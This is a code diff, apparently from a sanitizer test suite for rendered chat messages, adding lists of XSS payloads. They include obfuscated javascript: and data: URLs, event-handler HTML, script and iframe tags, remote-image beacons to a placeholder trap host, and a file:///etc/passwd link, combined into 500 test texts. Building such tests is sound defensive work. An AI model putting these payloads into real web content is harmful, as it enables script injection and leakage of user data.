@@ -35,6 +35,110 @@ CORPUS: Final[dict[str, str]] = {
 }
 """By what it tries. Every text has words, so that a model that repeats it is believed."""
 
+DESTINATIONS: Final = (
+    "javascript:window.fooled=1",
+    "JaVaScRiPt:window.fooled=1",
+    "javascript&colon;window.fooled=1",
+    "&#106;avascript:window.fooled=1",
+    "&#x6A&#x61;vascript:window.fooled=1",
+    "java&#10;script:window.fooled=1",
+    "java%0ascript:window.fooled=1",
+    "\\javascript:window.fooled=1",
+    "javascript://{trap}/%0awindow.fooled=1",
+    "data:text/html,<script>window.fooled=1</script>",
+    "data:text/html;base64,PHNjcmlwdD53aW5kb3cuZm9vbGVkPTE8L3NjcmlwdD4=",
+    "data:image/svg+xml,<svg onload=window.fooled=1>",
+    "vbscript:window.fooled=1",
+    "file:///etc/passwd",
+    "blob:{trap}/0b5f",
+    "filesystem:{trap}/temporary/x",
+    "view-source:{trap}/v",
+    "about:blank#x",
+    "//elsewhere.example/x",
+    "\\\\elsewhere.example\\x",
+    "/relative",
+    "?query",
+    "#fragment",
+    "ws://elsewhere.example/",
+    "ms-settings:privacy",
+)
+"""Where no link of ours may lead."""
+LINKS: Final = (
+    "zebra [crossing]({to}) end",
+    "zebra [crossing](<{to}>) end",
+    'zebra [crossing]({to} "title\' onmouseover=window.fooled=1") end',
+    "zebra <{to}> crossing",
+    "zebra [crossing][there]\n\n[there]: {to}",
+    "- zebra\n- [**crossing**]({to})",
+    "> zebra [`crossing`]({to})",
+    "zebra ![crossing]({to}) end",
+)
+ELEMENTS: Final = (
+    "<script>window.fooled=1</script>",
+    "<script src={trap}/s.js></script>",
+    "<scr<script>ipt>window.fooled=1</scr</script>ipt>",
+    "<SCRIPT/X SRC={trap}/s></SCRIPT>",
+    "<img src=x onerror=window.fooled=1>",
+    "<img src={trap}/i.png srcset='{trap}/j.png 2x'>",
+    '<img """><script>window.fooled=1</script>">',
+    "<svg onload=window.fooled=1>",
+    "<svg><animate onbegin=window.fooled=1 attributeName=x dur=1s></svg>",
+    "<svg><script>window.fooled=1</script></svg>",
+    "<math><mtext><table><mglyph><style><img src=x onerror=window.fooled=1>",
+    "<iframe src={trap}/f></iframe>",
+    "<iframe srcdoc='<script>parent.fooled=1</script>'></iframe>",
+    "<object data={trap}/o></object><embed src={trap}/e>",
+    "<link rel=stylesheet href={trap}/l><link rel=prefetch href={trap}/p>",
+    "<style>@import '{trap}/c';body{background:url({trap}/b)}</style>",
+    "<meta http-equiv=refresh content='0;url={trap}/m'>",
+    "<base href={trap}/>",
+    "<form action={trap}/p><input autofocus onfocus=window.fooled=1></form>",
+    "<details open ontoggle=window.fooled=1>x</details>",
+    "<video src={trap}/v autoplay onloadstart=window.fooled=1></video>",
+    "<audio src={trap}/a autoplay></audio>",
+    "<body onload=window.fooled=1>",
+    "<a href=javascript:window.fooled=1>crossing</a>",
+    "<a href={trap}/k ping={trap}/ping>crossing</a>",
+    "<div style='position:fixed;inset:0;background:url({trap}/d)'>x</div>",
+    "<x onpointerenter=window.fooled=1 style=display:block>x</x>",
+    "<template><img src={trap}/t></template><slot name=x></slot>",
+    "<!--><img src=x onerror=window.fooled=1>-->",
+    "<![CDATA[<script>window.fooled=1</script>]]>",
+)
+"""HTML that has no place in a message."""
+PLACES: Final = (
+    "zebra {it} crossing",
+    "{it}\n\nzebra crossing",
+    "zebra\n{it}\ncrossing",
+    "- zebra\n\n  {it}",
+    "> zebra {it}",
+    "# zebra {it}",
+    "zebra **{it}** *crossing*",
+    "zebra [{it}](https://example.com/) crossing",
+)
+PICTURES: Final = (
+    "![zebra]({trap}/i.png)",
+    "![zebra](<{trap}/i.png> 'crossing')",
+    "![zebra][one]\n\n[one]: {trap}/r.png",
+    "![][one]\n\n[one]: {trap}/r.png",
+    "[![zebra]({trap}/i.png)]({trap}/page)",
+    "![![zebra]({trap}/i.png)]({trap}/o.png)",
+    "![zebra](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
+    "![zebra](//elsewhere.example/i.png)",
+    "![zebra]({trap}/i.png){width=1 onerror=window.fooled=1}",
+    "![zebra]({trap}/i.png?q=secret#x)",
+)
+CLOSED: Final = PLACES[:6]
+
+
+def many() -> list[str]:
+    """500 texts: each destination in each kind of link, each element and picture in each place."""
+    linked = [link.replace("{to}", to) for to in DESTINATIONS for link in LINKS]
+    placed = [place.replace("{it}", it) for it in ELEMENTS for place in PLACES]
+    pictured = [place.replace("{it}", it) for it in PICTURES for place in CLOSED]
+    return [*linked, *placed, *pictured]
+
+
 INSPECT: Final = """(part) => {
   const allowed = new Set(["A", "B", "BDI", "BLOCKQUOTE", "BR", "BUTTON", "CODE", "DIV", "EM", "HR",
     "LI", "OL", "P", "PRE", "SPAN", "STRONG", "UL"]);
